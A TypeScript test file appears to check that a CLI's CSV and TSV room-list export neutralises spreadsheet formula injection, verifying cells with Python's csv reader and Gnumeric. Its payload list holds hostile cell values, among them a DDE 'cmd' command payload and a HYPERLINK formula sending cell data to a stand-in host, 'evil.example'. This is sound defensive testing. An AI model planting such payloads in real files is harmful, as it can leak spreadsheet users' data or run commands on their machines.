import {execFile, execFileSync} from 'node:child_process'
import {readFileSync, writeFileSync} from 'node:fs'
import path from 'node:path'
import {promisify} from 'node:util'
import {describe, expect, test} from 'vitest'
import {safeText} from '../../src/text/text.js'
import {cli, freshHome} from '../support/cli.js'
import {pythonProgram} from '../support/pty.js'
import {attacks} from './hostile.js'
import {serviceOf} from './service.js'

const payloads = ['1+1', "cmd|'/C calc'!A0", 'HYPERLINK("http://evil.example?"&A1,"Click")', 'SUM(1;1)', 'A1']
const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠']
const before = [
  '',
  ' ',
  '\u00a0',
  '\u3000',
  '"',
  '""',
  ' "',
  "x;'",
  '\t',
  '\r',
  '\n',
  '\0',
  '\u200b',
  'x;',
  'x; ',
  'x;"',
  'x,',
]

/** Cells that a spreadsheet would run, in every disguise, and plain ones. */
const names: readonly string[] = [
  ...before.flatMap((one) => signs.flatMap((sign, at) => `${one}${sign}${payloads[at % payloads.length]}`)),
  ...payloads.map((payload) => `=${payload}`),
  ...payloads.map((payload) => `"=${payload}"`),
  '=1+1"',
  '"half',
  '"a\tb"',
  'ID;PWXL;N;E',
  'C;Y1;X1;K1;E1+1',
  "'=1+1",
  '-5',
  '+82 10 1234',
  '@ann',
  'Thanks ;-)',
  'a "quoted" word',
  'one, two; three',
  '프로젝트',
  'اجتماع',
  '👩‍💻',
  '',
  ' ',
  ...Object.values(attacks),
]
const columns = ['room_id', 'name', 'room_status', 'created_by', 'max_attendee_count', 'start_time', 'description']

/** The rooms as text in a format, with the hostile texts in every column, those of times and of numbers too. */
async function exported(format: 'csv' | 'tsv', more: readonly string[] = []): Promise<string> {
  const rooms = names.map((name, at) => ({
    room_id: `${name}#${at}`,
    name,
    room_status: name,
    created_by: name,
    max_attendee_count: -at,
    start_time: name,
    description: `${name}\u001b${name}`,
  }))
  const transport = serviceOf((member) => member)
  const {stdout, exit} = await cli(['room', 'list', '-o', format, '--columns', columns.join(','), ...more], {
    home: freshHome(),
    transport: async (request) => ({...(await transport(request)), body: once(rooms)}),
  })
  expect(exit).toBe(0)
  return stdout
}

async function* once(data: unknown): AsyncIterable<Uint8Array> {
  yield Buffer.from(JSON.stringify({status: 'SUCCESS', data}))
}

/** The cells as Python's own reader finds them. */
function readByPython(text: string, dialect: 'excel' | 'excel-tab'): string[][] {
  const script = [
    'import csv, io, json, sys',
    'sys.stdin.reconfigure(encoding="utf-8", newline="")',
    `print(json.dumps(list(csv.reader(io.StringIO(sys.stdin.read(), newline=""), dialect="${dialect}", strict=True))))`,
  ].join('\n')
  return JSON.parse(execFileSync(pythonProgram(), ['-IS', '-c', script], {input: text, encoding: 'utf8'}))
}

/** The text that a spreadsheet shows: made safe, with a `'` before an expression. */
function withoutGuard(cell: string): string {
  return cell.replace(/^'|(?<=;)'/gu, '')
}

describe.each(['csv', 'tsv'] as const)('a list as %s', (format) => {
  test('comes back from another reader cell by cell', async () => {
    const rows = readByPython(await exported(format), format === 'csv' ? 'excel' : 'excel-tab')
    expect(rows[0]).toEqual(columns)
    expect(rows).toHaveLength(names.length + 1)
    for (const [at, name] of names.entries()) {
      const cells = rows[at + 1] ?? []
      expect(cells).toHaveLength(columns.length)
      const texts = [`${name}#${at}`, name, name, name, String(-at), name, `${name}\u001b${name}`]
      expect(cells.map(withoutGuard)).toEqual(texts.map((text) => withoutGuard(safeText(text).replace('-0', '0'))))
    }
    // No cell but a number begins as a formula does.
    const texts = rows.slice(1).flatMap((cells) => cells.filter((_, at) => columns[at] !== 'max_attendee_count'))
    for (const text of texts) {
      expect(text).not.toMatch(/^[\s"\u00a0\u3000]*[=+@＝＋－＠-]/u)
      expect(text).not.toMatch(/;[\s"\u00a0\u3000]*(?!-\))[=+@＝＋－＠-]/u)
    }
  })

  test.each([[[]], [['--sort', '-room_id', '--no-header']]])(
    'is opened by a spreadsheet without a formula (%j)',
    async (more) => {
      const cells = await opened(await exported(format, more), format)
      expect(cells.length).toBeGreaterThan(names.length)
      expect(cells.filter(({isFormula}) => isFormula)).toEqual([])
    },
  )
})

test('the spreadsheet would run them if they were there as they are', async () => {
  const text = ['=1+1', ' =1+1', '"=1+1"'].map((cell) => `x\t${cell}\n`).join('')
  expect((await opened(text, 'tsv')).filter(({isFormula}) => isFormula)).toHaveLength(3)
  expect((await opened('x,=1+1\n', 'csv')).filter(({isFormula}) => isFormula)).toHaveLength(1)
})

interface Cell {
  readonly text: string
  readonly isFormula: boolean
}

/** The cells of a file as Gnumeric opens it. */
async function opened(text: string, ending: string): Promise<Cell[]> {
  const folder = freshHome()
  const file = path.join(folder, `list.${ending}`)
  const sheet = path.join(folder, 'list.xml')
  writeFileSync(file, text)
  const env = {PATH: process.env.PATH, HOME: folder, LANG: 'C.UTF-8'}
  await promisify(execFile)('ssconvert', ['-I', 'Gnumeric_stf:stf_csvtab', '-T', 'Gnumeric_XmlIO:sax:0', file, sheet], {
    env,
  })
  const found = readFileSync(sheet, 'utf8').matchAll(/<gnm:Cell ([^>]*?)(?:\/>|>([^<]*)<\/gnm:Cell>)/gu)
  // A cell that holds a value says of which type; an expression has none, and may be shared by its number.
  return Array.from(found, ([, facts = '', content = '']) => ({
    text: content,
    isFormula: !facts.includes('ValueType='),
  }))
}
